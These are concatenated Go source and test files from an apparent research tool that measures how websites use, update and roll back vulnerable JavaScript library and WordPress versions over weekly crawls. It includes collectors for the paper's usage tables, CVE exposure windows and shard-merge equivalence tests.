package analysis

import (
	"testing"

	"clientres/internal/store"
)

// obsWith builds a minimal OK observation for one domain/week/library.
func obsWith(domain string, week int, slug, version string) store.Observation {
	return store.Observation{
		Domain: domain, Week: week, Status: 200, Bytes: 1000,
		Libs: []store.LibRecord{{Slug: slug, Version: version, Known: true}},
	}
}

func TestRegressionsDowngradeDetection(t *testing.T) {
	r := NewRegressions(201)
	// Site updates 1.12.4 -> 3.5.1, rolls back, then re-updates.
	r.Observe(obsWith("a.com", 120, "jquery", "1.12.4"))
	r.Observe(obsWith("a.com", 140, "jquery", "3.5.1"))
	r.Observe(obsWith("a.com", 144, "jquery", "1.12.4")) // rollback
	r.Observe(obsWith("a.com", 160, "jquery", "3.5.1"))
	if r.RegressedDomains() != 1 {
		t.Errorf("RegressedDomains = %d", r.RegressedDomains())
	}
	downs := r.DowngradesByLibrary()
	if len(downs) != 1 || downs[0].Slug != "jquery" || downs[0].Count != 1 {
		t.Errorf("downgrades = %+v", downs)
	}
}

func TestRegressionsReopenWindow(t *testing.T) {
	r := NewRegressions(201)
	// Weeks chosen after the 2020 jQuery disclosures. 3.5.1 is outside
	// CVE-2019-11358's range (< 3.4.0); 1.12.4 is inside. The sequence
	// out -> in counts as a re-opened window only when the site was
	// previously observed outside.
	r.Observe(obsWith("b.com", 150, "jquery", "3.5.1"))  // out
	r.Observe(obsWith("b.com", 154, "jquery", "1.12.4")) // regressed in
	reopened := r.ReopenedWindows()
	if reopened["CVE-2019-11358"] != 1 {
		t.Errorf("CVE-2019-11358 reopened = %d, want 1 (%v)", reopened["CVE-2019-11358"], reopened)
	}
	if r.TotalReopened() == 0 {
		t.Error("TotalReopened = 0")
	}
}

func TestRegressionsNoFalsePositive(t *testing.T) {
	r := NewRegressions(201)
	// Monotone updates never count.
	r.Observe(obsWith("c.com", 10, "jquery", "1.12.4"))
	r.Observe(obsWith("c.com", 120, "jquery", "3.4.1"))
	r.Observe(obsWith("c.com", 160, "jquery", "3.5.1"))
	if r.RegressedDomains() != 0 || r.TotalReopened() != 0 {
		t.Errorf("false positives: domains %d reopened %d",
			r.RegressedDomains(), r.TotalReopened())
	}
	// First-ever observation inside a range is not a re-opening.
	r2 := NewRegressions(201)
	r2.Observe(obsWith("d.com", 150, "jquery", "1.12.4"))
	if r2.TotalReopened() != 0 {
		t.Error("first observation wrongly counted as re-opened")
	}
}

func TestRegressionsOnPipeline(t *testing.T) {
	pipeline(t) // shared 8000-site run includes the Regressions collector
	r := regr
	if r.RegressedDomains() == 0 {
		t.Error("the synthetic population should contain regressing sites")
	}
	if r.TotalReopened() == 0 {
		t.Error("some regressions should re-open vulnerability windows")
	}
	// Re-opened windows cannot exceed total downgrade events times the
	// advisory count per library; sanity bound.
	totalDowns := 0
	for _, lc := range r.DowngradesByLibrary() {
		totalDowns += lc.Count
	}
	if totalDowns == 0 {
		t.Error("no downgrades in population")
	}
}

func TestExploitabilityAwarePrevalence(t *testing.T) {
	pipeline(t)
	all := vuln.MeanVulnerableShare(true)
	readily := vuln.MeanReadilyExploitableShare()
	if readily <= 0 || readily > all {
		t.Errorf("readily exploitable share %.3f must be in (0, %.3f]", readily, all)
	}
}

func TestYearlyGapGrows(t *testing.T) {
	pipeline(t)
	years := vuln.YearlyShares()
	if len(years) < 4 {
		t.Fatalf("years = %d, want ≥4 (2018–2022)", len(years))
	}
	if years[0].Year != 2018 {
		t.Errorf("first year = %d", years[0].Year)
	}
	// The paper reports the gap growing 0.1 → 2.9 points; under our
	// Table-1-faithful version mix the early gap is larger (understated
	// CVE-2014-6071 and the jQuery-Migrate advisory already bite in 2018)
	// and late CVE ranges absorb most TVV-only sites. The robust
	// invariants: every year's TVV share is at least its CVE share, and a
	// positive gap exists in every year (EXPERIMENTS.md discusses the
	// trajectory difference).
	for _, ys := range years {
		if ys.TVV < ys.CVE {
			t.Errorf("year %d: TVV %.3f below CVE %.3f", ys.Year, ys.TVV, ys.CVE)
		}
		if ys.TVV-ys.CVE <= 0 {
			t.Errorf("year %d: no CVE/TVV gap", ys.Year)
		}
	}
}

func TestTopUndisclosedSites(t *testing.T) {
	pipeline(t)
	sites := vuln.TopUndisclosedSites(10)
	if len(sites) == 0 {
		t.Fatal("no undisclosed-vulnerable sites found")
	}
	for i := 1; i < len(sites); i++ {
		if sites[i].Rank < sites[i-1].Rank {
			t.Fatal("not rank-sorted")
		}
	}
}
