package analysis

import (
	"sort"

	"clientres/internal/cdn"
	"clientres/internal/store"
	"clientres/internal/vulndb"
)

// LibraryStats measures the JavaScript-library landscape: Table 1 (usage,
// inclusion types, CDN share, versions, dominant version), Figure 3 (usage
// trends), Figures 6/7/15 (per-version trends, WordPress association), and
// Table 5 (top CDNs per library).
type LibraryStats struct {
	weeks     int
	collected *weekSeries
	jsSites   *weekSeries
	libSites  *weekSeries // sites using ≥1 detected library (any slug)

	libs     map[string]*libStats
	distinct map[string]bool
}

type libStats struct {
	usage    *weekSeries
	internal int
	external int
	cdnHits  int
	hosts    map[string]int

	versions map[string]int         // canonical version → total observations
	verWeek  map[string]*weekSeries // canonical version → weekly sites
	verWP    map[string]*weekSeries // same, restricted to WordPress sites
	verRaw   map[string]string      // canonical → display string
}

func newLibStats() *libStats {
	return &libStats{
		usage: newWeekSeries(), hosts: map[string]int{},
		versions: map[string]int{}, verWeek: map[string]*weekSeries{},
		verWP: map[string]*weekSeries{}, verRaw: map[string]string{},
	}
}

// NewLibraryStats builds the collector.
func NewLibraryStats(weeks int) *LibraryStats {
	return &LibraryStats{
		weeks:     weeks,
		collected: newWeekSeries(),
		jsSites:   newWeekSeries(),
		libSites:  newWeekSeries(),
		libs:      map[string]*libStats{},
		distinct:  map[string]bool{},
	}
}

// Name implements Collector.
func (l *LibraryStats) Name() string { return "libraries" }

// Observe implements Collector.
func (l *LibraryStats) Observe(obs store.Observation) {
	if !obs.OK() {
		return
	}
	l.collected.add(obs.Week, 1)
	if obs.HasJS {
		l.jsSites.add(obs.Week, 1)
	}
	if len(obs.Libs) > 0 {
		l.libSites.add(obs.Week, 1)
	}
	seen := map[string]bool{}
	isWP := obs.WordPress != ""
	for _, lib := range obs.Libs {
		l.distinct[lib.Slug] = true
		ls := l.libs[lib.Slug]
		if ls == nil {
			ls = newLibStats()
			l.libs[lib.Slug] = ls
		}
		if !seen[lib.Slug] {
			seen[lib.Slug] = true
			ls.usage.add(obs.Week, 1)
		}
		if lib.External {
			ls.external++
			ls.hosts[lib.Host]++
			if cdn.IsCDN(lib.Host) {
				ls.cdnHits++
			}
		} else {
			ls.internal++
		}
		if v, ok := parseVersion(lib.Version); ok {
			key := v.Canonical()
			ls.versions[key]++
			ls.verRaw[key] = lib.Version
			ws := ls.verWeek[key]
			if ws == nil {
				ws = newWeekSeries()
				ls.verWeek[key] = ws
			}
			ws.add(obs.Week, 1)
			if isWP {
				wp := ls.verWP[key]
				if wp == nil {
					wp = newWeekSeries()
					ls.verWP[key] = wp
				}
				wp.add(obs.Week, 1)
			}
		}
	}
}

// Merge folds another LibraryStats' aggregates into l. The two collectors
// must have observed disjoint shards of the same study (see Collector).
func (l *LibraryStats) Merge(o *LibraryStats) {
	l.collected.merge(o.collected)
	l.jsSites.merge(o.jsSites)
	l.libSites.merge(o.libSites)
	mergeSets(l.distinct, o.distinct)
	for slug, os := range o.libs {
		ls := l.libs[slug]
		if ls == nil {
			ls = newLibStats()
			l.libs[slug] = ls
		}
		ls.merge(os)
	}
}

func (ls *libStats) merge(o *libStats) {
	ls.usage.merge(o.usage)
	ls.internal += o.internal
	ls.external += o.external
	ls.cdnHits += o.cdnHits
	mergeCounts(ls.hosts, o.hosts)
	mergeCounts(ls.versions, o.versions)
	// Display strings are consistent per canonical key in practice; keep
	// the lexicographically smaller on the (theoretical) conflict so the
	// merge stays order-independent.
	for key, raw := range o.verRaw {
		if cur, ok := ls.verRaw[key]; !ok || raw < cur {
			ls.verRaw[key] = raw
		}
	}
	mergeSeriesMap(ls.verWeek, o.verWeek)
	mergeSeriesMap(ls.verWP, o.verWP)
}

// UsageSeries returns the weekly share of collected sites using a library.
func (l *LibraryStats) UsageSeries(slug string) []float64 {
	den := l.collected.Series(l.weeks)
	out := make([]float64, l.weeks)
	ls := l.libs[slug]
	if ls == nil {
		return out
	}
	num := ls.usage.Series(l.weeks)
	for i := range out {
		if den[i] > 0 {
			out[i] = float64(num[i]) / float64(den[i])
		}
	}
	return out
}

// MeanUsage returns the average usage share of a library.
func (l *LibraryStats) MeanUsage(slug string) float64 {
	ls := l.libs[slug]
	if ls == nil {
		return 0
	}
	return meanRatio(ls.usage.Series(l.weeks), l.collected.Series(l.weeks))
}

// Table1Row is one row of the paper's Table 1.
type Table1Row struct {
	Slug, Name    string
	MeanUsage     float64 // share of collected sites
	InternalPct   float64 // of inclusions
	ExternalPct   float64
	CDNPct        float64 // of external inclusions
	VersionsFound int
	TotalVersions int // catalog size
	Dominant      string
	DominantPct   float64 // share among the library's version observations
	LatestSeen    string
	VulnCount     int
	Discontinued  bool
}

// Table1 computes Table 1 for the top-15 libraries in paper order.
func (l *LibraryStats) Table1() []Table1Row {
	var rows []Table1Row
	for _, lib := range vulndb.Libraries() {
		row := Table1Row{Slug: lib.Slug, Name: lib.Name, Discontinued: lib.Discontinued}
		if cat, ok := vulndb.CatalogFor(lib.Slug); ok {
			row.TotalVersions = len(cat.Releases)
		}
		row.VulnCount = len(vulndb.AdvisoriesFor(lib.Slug))
		ls := l.libs[lib.Slug]
		if ls != nil {
			row.MeanUsage = l.MeanUsage(lib.Slug)
			total := ls.internal + ls.external
			if total > 0 {
				row.InternalPct = float64(ls.internal) / float64(total)
				row.ExternalPct = float64(ls.external) / float64(total)
			}
			if ls.external > 0 {
				row.CDNPct = float64(ls.cdnHits) / float64(ls.external)
			}
			row.VersionsFound = len(ls.versions)
			row.Dominant, row.DominantPct = dominantVersion(ls)
			row.LatestSeen = latestVersion(ls)
		}
		rows = append(rows, row)
	}
	return rows
}

func dominantVersion(ls *libStats) (string, float64) {
	best, bestN, total := "", 0, 0
	for key, n := range ls.versions {
		total += n
		if n > bestN || (n == bestN && key < best) {
			best, bestN = key, n
		}
	}
	if total == 0 {
		return "", 0
	}
	return ls.verRaw[best], float64(bestN) / float64(total)
}

func latestVersion(ls *libStats) string {
	best := ""
	for key := range ls.versions {
		if best == "" || less(best, key) {
			best = key
		}
	}
	if best == "" {
		return ""
	}
	return ls.verRaw[best]
}

func less(a, b string) bool {
	va, oka := parseVersion(a)
	vb, okb := parseVersion(b)
	if !oka || !okb {
		return a < b
	}
	return va.Less(vb)
}

// TopVersions returns a library's n most-observed versions (display form),
// most popular first.
func (l *LibraryStats) TopVersions(slug string, n int) []string {
	ls := l.libs[slug]
	if ls == nil {
		return nil
	}
	type kv struct {
		key string
		n   int
	}
	var all []kv
	for key, cnt := range ls.versions {
		all = append(all, kv{key, cnt})
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].n != all[j].n {
			return all[i].n > all[j].n
		}
		return all[i].key < all[j].key
	})
	if n > len(all) {
		n = len(all)
	}
	out := make([]string, n)
	for i := 0; i < n; i++ {
		out[i] = ls.verRaw[all[i].key]
	}
	return out
}

// VersionSeries returns weekly site counts for one (library, version).
func (l *LibraryStats) VersionSeries(slug, version string) []int {
	ls := l.libs[slug]
	if ls == nil {
		return make([]int, l.weeks)
	}
	v, ok := parseVersion(version)
	if !ok {
		return make([]int, l.weeks)
	}
	ws := ls.verWeek[v.Canonical()]
	if ws == nil {
		return make([]int, l.weeks)
	}
	return ws.Series(l.weeks)
}

// VersionSeriesWordPress returns the same series restricted to WordPress
// sites (Figure 7b).
func (l *LibraryStats) VersionSeriesWordPress(slug, version string) []int {
	ls := l.libs[slug]
	if ls == nil {
		return make([]int, l.weeks)
	}
	v, ok := parseVersion(version)
	if !ok {
		return make([]int, l.weeks)
	}
	ws := ls.verWP[v.Canonical()]
	if ws == nil {
		return make([]int, l.weeks)
	}
	return ws.Series(l.weeks)
}

// HostCount is one Table 5 cell: an external host and its inclusion count.
type HostCount struct {
	Host  string
	Count int
	Share float64 // of the library's external inclusions
}

// TopHosts returns a library's n most-used external hosts (Table 5).
func (l *LibraryStats) TopHosts(slug string, n int) []HostCount {
	ls := l.libs[slug]
	if ls == nil || ls.external == 0 {
		return nil
	}
	var all []HostCount
	for host, cnt := range ls.hosts {
		all = append(all, HostCount{Host: host, Count: cnt,
			Share: float64(cnt) / float64(ls.external)})
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].Count != all[j].Count {
			return all[i].Count > all[j].Count
		}
		return all[i].Host < all[j].Host
	})
	if n > len(all) {
		n = len(all)
	}
	return all[:n]
}

// DistinctLibraries returns the number of distinct library slugs observed
// (the paper found 79).
func (l *LibraryStats) DistinctLibraries() int { return len(l.distinct) }

// LibShareOfJSSites returns the share of JavaScript-using sites that use at
// least one identified library (the paper's 97.04 %).
func (l *LibraryStats) LibShareOfJSSites() float64 {
	return meanRatio(l.libSites.Series(l.weeks), l.jsSites.Series(l.weeks))
}
