package analysis

import (
	"testing"
	"time"
)

// week returns the snapshot week of a calendar date.
func week(y int, m time.Month, d int) int {
	return weekOfDate(time.Date(y, m, d, 0, 0, 0, 0, time.UTC))
}

func TestDelayBasicWindow(t *testing.T) {
	u := NewUpdateDelay(201)
	// CVE-2019-11358: patched 3.4.0 released 2019-04-10. A site on 1.12.4
	// at patch time that updates to 3.5.1 in Dec 2020 has a window of
	// roughly 600 days.
	w0 := week(2019, time.April, 15)
	w1 := week(2020, time.December, 14)
	u.Observe(obsWith("a.com", w0, "jquery", "1.12.4"))
	u.Observe(obsWith("a.com", w1, "jquery", "3.5.1"))
	res := u.Result(false, false)
	// 1.12.4 is affected by two patched advisories here (CVE-2019-11358
	// and CVE-2015-9251), so two windows close at the same update.
	if res.Updated != 2 {
		t.Fatalf("updated = %d (censored %d)", res.Updated, res.Censored)
	}
	days, ok := res.PerAdvisory["CVE-2019-11358"]
	if !ok || days < 550 || days > 650 {
		t.Errorf("11358 window = %.0f days (ok=%v), want ~610", days, ok)
	}
}

func TestDelayStartsAtPatchRelease(t *testing.T) {
	u := NewUpdateDelay(201)
	// The site was on the affected version long before the patch existed;
	// the measurable window opens at the patch release, not earlier.
	wEarly := week(2018, time.March, 12) // before 3.4.0 existed
	wFix := week(2019, time.April, 15)   // right after 3.4.0 shipped
	wUp := week(2019, time.October, 14)
	u.Observe(obsWith("b.com", wEarly, "jquery", "1.12.4"))
	u.Observe(obsWith("b.com", wFix, "jquery", "1.12.4"))
	u.Observe(obsWith("b.com", wUp, "jquery", "3.4.1"))
	res := u.Result(false, false)
	// Find the 11358 entry: the window must be ~6 months, not ~19 months.
	days, ok := res.PerAdvisory["CVE-2019-11358"]
	if !ok {
		t.Fatalf("no 11358 window: %+v", res.PerAdvisory)
	}
	if days < 150 || days > 220 {
		t.Errorf("11358 window = %.0f days, want ~187 (measured from patch release)", days)
	}
}

func TestDelayLateAdopterMeasuredFromAdoption(t *testing.T) {
	u := NewUpdateDelay(201)
	// A site that ADOPTS the vulnerable version a year after the patch is
	// measured from its own adoption, not from the patch date.
	wAdopt := week(2020, time.June, 1)
	wUp := week(2020, time.December, 7)
	u.Observe(obsWith("c.com", wAdopt, "jquery", "1.12.4"))
	u.Observe(obsWith("c.com", wUp, "jquery", "3.5.1"))
	days, ok := u.Result(false, false).PerAdvisory["CVE-2019-11358"]
	if !ok {
		t.Fatal("no window measured")
	}
	if days < 150 || days > 220 {
		t.Errorf("late-adopter window = %.0f days, want ~189", days)
	}
}

func TestDelayCensoredWindow(t *testing.T) {
	u := NewUpdateDelay(201)
	u.Observe(obsWith("d.com", week(2020, time.June, 1), "jquery", "1.12.4"))
	u.Observe(obsWith("d.com", week(2021, time.June, 7), "jquery", "1.12.4"))
	res := u.Result(false, false)
	if res.Updated != 0 || res.Censored == 0 {
		t.Errorf("frozen site should leave censored windows: %+v", res)
	}
}

func TestDelayRegressionAfterUpdateNotRecounted(t *testing.T) {
	u := NewUpdateDelay(201)
	// Update then regression: the first closed window stands; the
	// regression does not produce a second, longer window.
	u.Observe(obsWith("e.com", week(2020, time.June, 1), "jquery", "1.12.4"))
	u.Observe(obsWith("e.com", week(2020, time.August, 3), "jquery", "3.5.1"))
	u.Observe(obsWith("e.com", week(2020, time.September, 7), "jquery", "1.12.4"))
	u.Observe(obsWith("e.com", week(2021, time.March, 1), "jquery", "3.5.1"))
	res := u.Result(false, false)
	days := res.PerAdvisory["CVE-2019-11358"]
	if days > 120 {
		t.Errorf("window = %.0f days; regression must not extend the measured window", days)
	}
}

func TestDelayUnpatchedAdvisoriesExcluded(t *testing.T) {
	u := NewUpdateDelay(201)
	// Prototype advisories have no patched version: no window can open.
	u.Observe(obsWith("f.com", week(2021, time.July, 5), "prototype", "1.7.1"))
	u.Observe(obsWith("f.com", week(2021, time.December, 6), "prototype", "1.7.3"))
	res := u.Result(false, false)
	if _, ok := res.PerAdvisory["CVE-2020-27511"]; ok {
		t.Error("unpatched advisory must not contribute windows")
	}
}

func TestDelayTVVLongerForUnderstated(t *testing.T) {
	u := NewUpdateDelay(201)
	// CVE-2020-7656 (patched version 1.9.0, CVE range <1.9.0, TVV <3.6.0):
	// a site moving 1.8.3 → 1.12.4 → 3.6.0 closes the CVE window at the
	// first update but the TVV window only at the second.
	u.Observe(obsWith("g.com", week(2020, time.June, 1), "jquery", "1.8.3"))
	u.Observe(obsWith("g.com", week(2020, time.September, 7), "jquery", "1.12.4"))
	u.Observe(obsWith("g.com", week(2021, time.August, 2), "jquery", "3.6.0"))
	cve := u.Result(false, false).PerAdvisory["CVE-2020-7656"]
	tvv := u.Result(true, false).PerAdvisory["CVE-2020-7656"]
	if cve == 0 || tvv == 0 {
		t.Fatalf("windows missing: cve %.0f tvv %.0f", cve, tvv)
	}
	if tvv <= cve {
		t.Errorf("TVV window (%.0f) must exceed CVE window (%.0f)", tvv, cve)
	}
}
