// Package analysis implements every measurement of the paper's evaluation
// (Sections 5–8) over a stream of crawl observations.
//
// The unit of input is a store.Observation — one (domain, week) fetch
// reduced to facts. Collectors accumulate aggregates keyed by week and need
// no particular arrival order, so the same code runs over a live crawl, a
// stored dataset, or ground truth. A Runner fans one stream out to many
// collectors in a single pass; memory stays proportional to the aggregates,
// never the dataset.
package analysis

import (
	"time"

	"clientres/internal/semver"
	"clientres/internal/store"
	"clientres/internal/webgen"
)

// Collector consumes observations and accumulates one experiment's
// aggregates.
//
// Every collector in this package additionally has a Merge(other) method
// combining the aggregates of two collectors of the same study shape into
// the receiver. Merge exists for sharded collection: partition the
// observation stream BY DOMAIN across shards, give each shard a private
// collector, and merge the shards afterwards — the result is identical to
// a single collector observing the whole stream. Domain-disjoint shards
// are the contract: the stateful collectors (UpdateDelay, Discontinued,
// Regressions, and the per-domain extrema elsewhere) keep per-domain state
// machines that only merge exactly when each domain's history lives
// entirely inside one shard. The merge_test.go property suite asserts this
// equivalence on randomized streams for every collector.
type Collector interface {
	// Name identifies the collector in reports.
	Name() string
	// Observe folds one observation into the aggregates. Implementations
	// must accept observations in any order.
	Observe(obs store.Observation)
}

// Runner fans an observation stream out to a set of collectors.
type Runner struct {
	collectors []Collector
}

// NewRunner builds a Runner over the given collectors.
func NewRunner(collectors ...Collector) *Runner {
	return &Runner{collectors: collectors}
}

// Observe distributes one observation to every collector.
func (r *Runner) Observe(obs store.Observation) {
	for _, c := range r.collectors {
		c.Observe(obs)
	}
}

// Collectors returns the runner's collectors.
func (r *Runner) Collectors() []Collector { return r.collectors }

// WeekDate re-exports the study calendar so downstream consumers need not
// import webgen.
func WeekDate(w int) time.Time { return webgen.WeekDate(w) }

// parseVersion parses a stored version string, returning ok=false for
// missing/unparseable versions.
func parseVersion(s string) (semver.Version, bool) {
	if s == "" {
		return semver.Version{}, false
	}
	v, err := semver.Parse(s)
	if err != nil {
		return semver.Version{}, false
	}
	return v, true
}

// weekSeries is a dense per-week int series.
type weekSeries struct {
	counts map[int]int
}

func newWeekSeries() *weekSeries { return &weekSeries{counts: map[int]int{}} }

func (s *weekSeries) add(week, n int) { s.counts[week] += n }

// merge folds another series' counts into s.
func (s *weekSeries) merge(o *weekSeries) {
	for w, n := range o.counts {
		s.counts[w] += n
	}
}

// mergeSeriesMap folds a map of lazily-created weekSeries into dst,
// creating missing entries.
func mergeSeriesMap(dst, src map[string]*weekSeries) {
	for k, os := range src {
		ds := dst[k]
		if ds == nil {
			ds = newWeekSeries()
			dst[k] = ds
		}
		ds.merge(os)
	}
}

// mergeCounts adds src's counters into dst.
func mergeCounts(dst, src map[string]int) {
	for k, n := range src {
		dst[k] += n
	}
}

// mergeHist adds src's histogram buckets into dst.
func mergeHist(dst, src map[int]int) {
	for k, n := range src {
		dst[k] += n
	}
}

// mergeSets unions src into dst.
func mergeSets(dst, src map[string]bool) {
	for k := range src {
		dst[k] = true
	}
}

// mergeMinRank keeps the best (lowest) rank per key.
func mergeMinRank(dst, src map[string]int) {
	for k, r := range src {
		if cur, ok := dst[k]; !ok || r < cur {
			dst[k] = r
		}
	}
}

// Series materializes weeks [0, weeks) as a slice.
func (s *weekSeries) Series(weeks int) []int {
	out := make([]int, weeks)
	for w, n := range s.counts {
		if w >= 0 && w < weeks {
			out[w] = n
		}
	}
	return out
}

// Mean returns the average over the weeks that have any observation in ref
// (a denominators series); weeks with a zero denominator are skipped.
func meanRatio(num, den []int) float64 {
	sum, n := 0.0, 0
	for i := range num {
		if i < len(den) && den[i] > 0 {
			sum += float64(num[i]) / float64(den[i])
			n++
		}
	}
	if n == 0 {
		return 0
	}
	return sum / float64(n)
}

func meanInt(xs []int) float64 {
	if len(xs) == 0 {
		return 0
	}
	sum := 0
	for _, x := range xs {
		sum += x
	}
	return float64(sum) / float64(len(xs))
}
