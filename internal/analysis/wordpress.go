package analysis

import (
	"clientres/internal/store"
	"clientres/internal/vulndb"
)

// WordPress measures the platform's footprint (Figure 9) and its Table 4
// CVE exposure — the context for the auto-update finding of Section 7.
type WordPress struct {
	weeks     int
	collected *weekSeries
	wpSites   *weekSeries
	// affected counts sites per WP advisory per week (from disclosure on).
	affected map[string]*weekSeries
	// versions counts WP versions for the 521-versions-found statistic.
	versions map[string]int
}

// NewWordPress builds the collector.
func NewWordPress(weeks int) *WordPress {
	w := &WordPress{
		weeks:     weeks,
		collected: newWeekSeries(),
		wpSites:   newWeekSeries(),
		affected:  map[string]*weekSeries{},
		versions:  map[string]int{},
	}
	for _, a := range vulndb.WordPressAdvisories() {
		w.affected[a.ID] = newWeekSeries()
	}
	return w
}

// Name implements Collector.
func (w *WordPress) Name() string { return "wordpress" }

// Observe implements Collector.
func (w *WordPress) Observe(obs store.Observation) {
	if !obs.OK() {
		return
	}
	w.collected.add(obs.Week, 1)
	if obs.WordPress == "" {
		return
	}
	w.wpSites.add(obs.Week, 1)
	ver, ok := parseVersion(obs.WordPress)
	if !ok {
		return
	}
	w.versions[ver.Canonical()]++
	date := WeekDate(obs.Week)
	for _, adv := range vulndb.WordPressAdvisories() {
		if adv.Disclosed.After(date) {
			continue
		}
		if adv.Range.Contains(ver) {
			w.affected[adv.ID].add(obs.Week, 1)
		}
	}
}

// Merge folds another WordPress collector's aggregates into w. The two
// collectors must have observed disjoint shards of the same study (see
// Collector).
func (w *WordPress) Merge(o *WordPress) {
	w.collected.merge(o.collected)
	w.wpSites.merge(o.wpSites)
	mergeSeriesMap(w.affected, o.affected)
	mergeCounts(w.versions, o.versions)
}

// MeanShare returns the average share of collected sites built with
// WordPress (the paper's 26.9 %).
func (w *WordPress) MeanShare() float64 {
	return meanRatio(w.wpSites.Series(w.weeks), w.collected.Series(w.weeks))
}

// UsageSeries returns the Figure 9 weekly WordPress site counts.
func (w *WordPress) UsageSeries() (all, wp []int) {
	return w.collected.Series(w.weeks), w.wpSites.Series(w.weeks)
}

// Table4Row is one row of Table 4 as measured on this dataset.
type Table4Row struct {
	Advisory vulndb.WPAdvisory
	// MeanAffected is the average weekly affected-site count after
	// disclosure (the table's #Websites column).
	MeanAffected float64
}

// Table4 computes the measured Table 4.
func (w *WordPress) Table4() []Table4Row {
	var rows []Table4Row
	for _, adv := range vulndb.WordPressAdvisories() {
		series := w.affected[adv.ID].Series(w.weeks)
		from := weekOfDate(adv.Disclosed)
		if from < 0 {
			from = 0
		}
		row := Table4Row{Advisory: adv}
		if from < w.weeks {
			row.MeanAffected = meanInt(series[from:])
		}
		rows = append(rows, row)
	}
	return rows
}

// DistinctVersions returns the number of distinct WordPress versions seen.
func (w *WordPress) DistinctVersions() int { return len(w.versions) }
