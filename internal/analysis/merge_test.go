package analysis

// The merge equivalence suite: for every collector, folding a randomized
// observation stream through N domain-disjoint shard instances and merging
// them must produce exactly the state a single instance reaches observing
// the whole stream. This is the correctness proof behind core's sharded
// collection pipeline — reflect.DeepEqual over the full (unexported)
// collector state is deliberately the strongest possible check.

import (
	"fmt"
	"hash/fnv"
	"math/rand"
	"reflect"
	"testing"

	"clientres/internal/store"
	"clientres/internal/vulndb"
	"clientres/internal/webgen"
)

// truthObservations streams a small generator ecosystem into a slice, weeks
// ascending — the same order and shape the direct pipeline consumes.
func truthObservations(t *testing.T, domains, weeks int, seed int64) []store.Observation {
	t.Helper()
	eco := webgen.New(webgen.Config{Domains: domains, Weeks: weeks, Seed: seed})
	var out []store.Observation
	TruthSource{Eco: eco}.ForEach(func(o store.Observation) { out = append(out, o) })
	if len(out) != domains*weeks {
		t.Fatalf("truth stream = %d observations, want %d", len(out), domains*weeks)
	}
	return out
}

// streamShape parameterizes the randomized stream.
const (
	streamDomains = 48
	streamWeeks   = 36
)

// randomStream generates a week-ascending randomized observation stream:
// per-domain version random walks (producing updates, downgrades, and
// advisory-range crossings), WordPress and Flash populations, SRI and
// version-control hosting, anti-bot/dead weeks — every code path the
// collectors branch on.
func randomStream(seed int64) []store.Observation {
	rng := rand.New(rand.NewSource(seed))

	slugs := []string{"jquery", "bootstrap", "moment", "underscore",
		"jquery-cookie", "js-cookie", "swfobject", "prototype"}
	pool := map[string][]string{}
	for _, slug := range slugs {
		cat, ok := vulndb.CatalogFor(slug)
		if !ok {
			continue
		}
		for _, rel := range cat.Releases {
			pool[slug] = append(pool[slug], rel.Version.String())
		}
	}
	hosts := []string{"cdnjs.cloudflare.com", "code.jquery.com",
		"raw.githubusercontent.com", "github.io"}
	crossorigins := []string{"", "anonymous", "use-credentials"}
	countries := []string{"US", "CN", "KR", "DE"}
	wpVersions := []string{"4.9.8", "5.2.1", "5.7", "5.8.3"}

	type libState struct {
		slug string
		idx  int // index into the version pool, random-walked weekly
		ext  bool
		host string
		sri  bool
		co   string
	}
	type domState struct {
		name    string
		rank    int
		country string
		libs    []*libState
		wp      string
		flash   bool
		visible bool
	}
	doms := make([]*domState, streamDomains)
	for d := range doms {
		ds := &domState{
			name:    fmt.Sprintf("site-%03d.example", d),
			rank:    d + 1,
			country: countries[rng.Intn(len(countries))],
		}
		nLibs := 1 + rng.Intn(4)
		for j := 0; j < nLibs; j++ {
			slug := slugs[rng.Intn(len(slugs))]
			vs := pool[slug]
			if len(vs) == 0 {
				continue
			}
			ds.libs = append(ds.libs, &libState{
				slug: slug,
				idx:  rng.Intn(len(vs)),
				ext:  rng.Intn(3) > 0,
				host: hosts[rng.Intn(len(hosts))],
				sri:  rng.Intn(4) == 0,
				co:   crossorigins[rng.Intn(len(crossorigins))],
			})
		}
		if rng.Intn(4) == 0 {
			ds.wp = wpVersions[rng.Intn(len(wpVersions))]
		}
		if rng.Intn(5) == 0 {
			ds.flash = true
			ds.visible = rng.Intn(2) == 0
		}
		doms[d] = ds
	}

	var out []store.Observation
	for w := 0; w < streamWeeks; w++ {
		for _, ds := range doms {
			obs := store.Observation{
				Domain: ds.name, Rank: ds.rank, Country: ds.country,
				Week: w, Status: 200, Bytes: 4096,
			}
			switch rng.Intn(12) {
			case 0:
				obs.Status, obs.Bytes = 0, 0 // dead
			case 1:
				obs.Status, obs.Bytes = 503, 120 // transient failure
			case 2:
				obs.Bytes = 64 // anti-bot empty page
			}
			if obs.OK() {
				obs.WordPress = ds.wp
				for _, ls := range ds.libs {
					vs := pool[ls.slug]
					// Random walk the version: updates and the occasional
					// downgrade, so UpdateDelay and Regressions both fire.
					if rng.Intn(5) == 0 {
						ls.idx += 1 + rng.Intn(3)
					} else if rng.Intn(11) == 0 {
						ls.idx -= 1 + rng.Intn(2)
					}
					if ls.idx < 0 {
						ls.idx = 0
					}
					if ls.idx >= len(vs) {
						ls.idx = len(vs) - 1
					}
					rec := store.LibRecord{
						Slug: ls.slug, Version: vs[ls.idx], Known: true,
						External: ls.ext,
					}
					if ls.ext {
						rec.Host = ls.host
						rec.SRI = ls.sri
						if ls.sri {
							rec.Crossorigin = ls.co
						}
					}
					obs.Libs = append(obs.Libs, rec)
				}
				if rng.Intn(9) == 0 {
					// A tail library without a parseable version.
					obs.Libs = append(obs.Libs, store.LibRecord{Slug: "customlib"})
				}
				obs.HasJS = len(obs.Libs) > 0 || rng.Intn(3) > 0
				obs.Resources = store.ResourceFlags{
					JavaScript: obs.HasJS,
					CSS:        rng.Intn(2) == 0,
					Favicon:    rng.Intn(2) == 0,
					XML:        rng.Intn(8) == 0,
					SVG:        rng.Intn(6) == 0,
					Flash:      ds.flash,
					AXD:        rng.Intn(16) == 0,
				}
				if ds.flash {
					sap := rng.Intn(2) == 0
					obs.Flash = &store.FlashRecord{
						ScriptAccessParam: sap,
						Always:            sap && rng.Intn(3) == 0,
						ViaSWFObject:      rng.Intn(2) == 0,
						Visible:           ds.visible,
					}
				}
			}
			out = append(out, obs)
		}
	}
	return out
}

// splitByDomain partitions a stream into domain-disjoint shards by FNV-1a
// hash, preserving each domain's observation order — the sharding contract
// of core's parallel pipeline.
